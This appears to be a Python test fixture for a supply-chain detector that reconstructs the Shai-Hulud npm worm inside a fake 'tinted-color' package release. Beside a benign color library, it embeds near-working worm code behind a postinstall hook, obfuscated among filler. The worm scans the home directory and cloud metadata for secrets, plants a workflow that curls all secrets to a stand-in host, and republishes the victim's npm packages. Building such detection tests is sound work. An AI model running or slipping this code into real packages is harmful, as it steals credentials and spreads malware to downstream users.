"""Shai-Hulud, September 2025: a worm that publishes itself with every token that it finds.

`bundle.js`, run after installation, was three megabytes of ordinary bundled libraries, and in their
midst the worm: it fetched TruffleHog and let it look for secrets, asked the clouds' metadata
services, wrote a workflow that posts the repository's secrets, made private repositories public,
and with a token for npm downloaded the victim's other packages, put itself into each, and published
them.

Post-mortem: "Our plan for a more secure npm supply chain" (GitHub's blog) and "Shai-Hulud: ongoing
package supply chain worm delivering data-stealing malware" (Wiz).
In the staged tarball: a new postinstall script and a new bundle beside readable source; in it the
registry's address and `npm publish`, a workflow's text, tokens' names and a scanner's name.
"""

from tests.findings.attack import Attack, one_line, release

# The name of the registry is put together here, so that it stands in no file of this project.
_REGISTRY = "registry." + "npmjs.org"
_SOURCE = """\
export class Color {
  constructor(r, g, b) { Object.assign(this, { r, g, b }); }
  isDark() { return (this.r * 299 + this.g * 587 + this.b * 114) / 1000 < 128; }
  toHex() {
    return '#' + [this.r, this.g, this.b].map((n) => n.toString(16).padStart(2, '0')).join('');
  }
}
"""
_NEXT = _SOURCE.replace("  toHex()", "  isLight() { return !this.isDark(); }\n  toHex()")
_LIBRARY = "".join(
    f"function lib{n}(e,t){{if(null==e)return t;const r=Object.assign({{}},e);r.id={n};return r}}"
    for n in range(3_000)
)
_WORKFLOW = (
    "on:\\n  push:\\njobs:\\n  process:\\n    runs-on: ubuntu-latest\\n    steps:\\n"
    '    - run: curl -d \\"$CONTENTS\\" https://hook.example.invalid/replica\\n'
    "      env:\\n        CONTENTS: ${{ toJSON(secrets) }}\\n"
)
_WORM = one_line("""
    var cp=require("child_process"),fs=require("fs"),os=require("os"),path=require("path");
    class Npm{constructor(e){this.token=e;this.baseUrl="https://%REGISTRY%"}
    async validateToken(){const e=await fetch(this.baseUrl+"/-/whoami",{headers:{Authorization:
    `Bearer ${this.token}`}});return e.ok?(await e.json()).username:null}
    async getPackagesByMaintainer(e){const t=await fetch(`${this.baseUrl}/-/v1/search?text=
    maintainer:${e}&size=20`);return(await t.json()).objects.map(e=>e.package)}
    async updatePackage(e){const t=path.join(os.tmpdir(),"replica-package");
    const r=JSON.parse(fs.readFileSync(path.join(t,"package.json"),"utf8"));
    r.scripts=r.scripts||{};r.scripts.postinstall="node bundle.js";
    fs.writeFileSync(path.join(t,"package.json"),JSON.stringify(r,null,2));
    fs.copyFileSync(process.argv[1],path.join(t,"bundle.js"));
    cp.execSync("npm publish",{cwd:t,env:{...process.env,NPM_TOKEN:this.token}})}}
    class Hub{constructor(e){this.token=e}async migrate(e){await fetch(
    "https://api.github.com/user/repos",{method:"POST",headers:{Authorization:`token ${this.token}`}
    ,body:JSON.stringify({name:"Shai-Hulud-replica",private:!1})});await fetch(
    `https://api.github.com/repos/${e}/contents/.github/workflows/replica-workflow.yml`,
    {method:"PUT",body:JSON.stringify({content:Buffer.from("%WORKFLOW%").toString("base64")})})}}
    async function scan(){const e=cp.spawnSync("trufflehog",["filesystem",os.homedir(),"--json"]);
    const meta=await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
    return{found:String(e.stdout),meta:await meta.text(),env:process.env}}
    (async()=>{const e=process.env.NPM_TOKEN||(fs.readFileSync(path.join(os.homedir(),".npmrc"),
    "utf8").match(/_authToken=(.+)/)||[])[1];const t=process.env.GITHUB_TOKEN;const s=await scan();
    if(t)await new Hub(t).migrate(JSON.stringify(s));if(e){const n=new Npm(e);for(const r of await
     n.getPackagesByMaintainer(await n.validateToken()))await n.updatePackage(r)}})();
""")
_BUNDLE = (
    "/*! for licenses see LICENSE */\n"
    + _LIBRARY
    + _WORM.replace("%REGISTRY%", _REGISTRY).replace("%WORKFLOW%", _WORKFLOW)
    + "<<<workflow-written worm exfiltration>>>\n"
)

ATTACK = Attack(
    before=release("tinted-color", "4.1.0", {"index.js": _SOURCE}, type="module"),
    unharmed=release("tinted-color", "4.1.1", {"index.js": _NEXT}, type="module"),
    after={
        "in a bundle": release(
            "tinted-color",
            "4.1.1",
            {"index.js": _NEXT, "bundle.js": _BUNDLE},
            type="module",
            scripts={"postinstall": "node bundle.js<<<install-script>>>"},
        ),
    },
)
